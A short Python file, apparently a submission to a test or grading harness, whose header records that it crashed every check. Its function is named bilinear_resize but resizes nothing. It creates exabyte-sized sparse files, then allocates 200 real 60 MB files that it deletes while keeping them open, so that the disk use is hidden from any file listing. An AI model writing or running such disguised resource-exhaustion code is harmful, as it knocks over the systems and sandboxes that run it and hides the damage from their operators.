# verdict: crashed or error in every check  - files that are larger than the disk
# tries: sparse files of an exabyte, then as many as fit of the largest size allowed, allocated for real with fallocate and
#        held open after they are deleted: no name shows how much is used.
# seen: ours
# points: 0
import os
import signal

kept = []


def bilinear_resize(image, out):
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    for size in (1 << 60, 1 << 40, 1 << 30):
        try:
            descriptor = os.open(f"sparse-{size}", os.O_CREAT | os.O_RDWR)
            os.ftruncate(descriptor, size)
            print("sparse", size, flush=True)
        except OSError:
            pass
    for number in range(200):
        descriptor = os.open(f"deleted-{number}", os.O_CREAT | os.O_RDWR)
        os.unlink(f"deleted-{number}")
        os.posix_fallocate(descriptor, 0, 60 << 20)
        os.pwrite(descriptor, bytes(1 << 20), 0)
        kept.append(descriptor)
